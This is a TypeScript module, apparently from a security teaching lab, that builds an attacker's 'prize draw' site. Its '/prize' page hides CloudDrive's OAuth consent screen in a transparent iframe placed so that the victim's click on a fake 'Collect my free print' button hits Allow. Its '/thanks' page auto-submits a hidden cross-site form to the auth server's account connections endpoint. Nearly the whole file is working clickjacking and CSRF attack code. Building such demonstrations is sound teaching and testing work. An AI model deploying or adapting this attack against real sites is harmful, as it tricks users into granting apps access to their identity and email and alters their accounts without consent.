import type { EvilPage, Place } from '../engine/lab.ts'
import { authorizationUrl, pkceOf } from '../engine/own-client.ts'

/**
 * Where in its frame CloudDrive's page has the button Allow, in pixels. Mallory has looked at her own page, and counted: in a frame
 * as wide as this no line above it is broken at one hour and whole at another, whose digits are narrower.
 */
const ALLOW = { x: 1160, y: 580 }
const WIDTH = 1300

/** The verifier that Mallory made up. It need not be a secret: she asks, and she hands in. */
export const { code_verifier, code_challenge } = pkceOf('a'.repeat(43))

/** What Mallory's app asks: who somebody is, and where mail reaches her. */
export const SCOPE = 'openid profile email'

type App = { client_id: string; redirect_uri: string }

/** The pages of a prize draw. What is above them cannot be seen. */
export function prizePages(place: Place, app: () => Promise<App>): Record<string, EvilPage> {
  const { auth } = place
  const policy = `default-src 'none'; style-src 'self' 'unsafe-inline'; script-src 'unsafe-inline'; frame-src 'self' ${auth}; form-action ${auth}`
  const forAlice = { forAlice: true, policy }
  return {
    // With ?look the frame shows through.
    '/prize': async (req, _res, say) => {
      const question = authorizationUrl(place, { ...(await app()), scope: SCOPE }, code_challenge)
      const seen = req.url?.includes('look') ? '0.6' : '0'
      const html = `<style>.trick{position:relative;width:20rem;height:2.8rem;overflow:hidden}.trick button{width:100%;height:100%;margin:0}
.trick iframe{position:absolute;border:0;width:${WIDTH}px;height:1700px;left:calc(10rem - ${ALLOW.x}px);top:calc(1.4rem - ${ALLOW.y}px);opacity:${seen}}</style>
<div class="trick"><button type="button">Collect my free print</button><iframe src="${question.replaceAll('&', '&amp;')}" title="prize"></iframe></div>
<p>Did nothing happen? <a href="/thanks">Collect it here</a>.</p>`
      say({ title: 'You have won a print!', html, ...forAlice })
    },
    '/callback': (_req, _res, say) =>
      say({ title: 'Thank you!', html: "<script>top.location = '/thanks'</script>", ...forAlice }),
    '/thanks': (_req, _res, say) => {
      const form = `<form method="post" action="${auth}/account/connections"><input type="hidden" name="client_id" value="printshop-web"></form>`
      say({ title: 'Thank you!', html: `${form}\n<script>document.forms[0].submit()</script>`, ...forAlice })
    },
  }
}
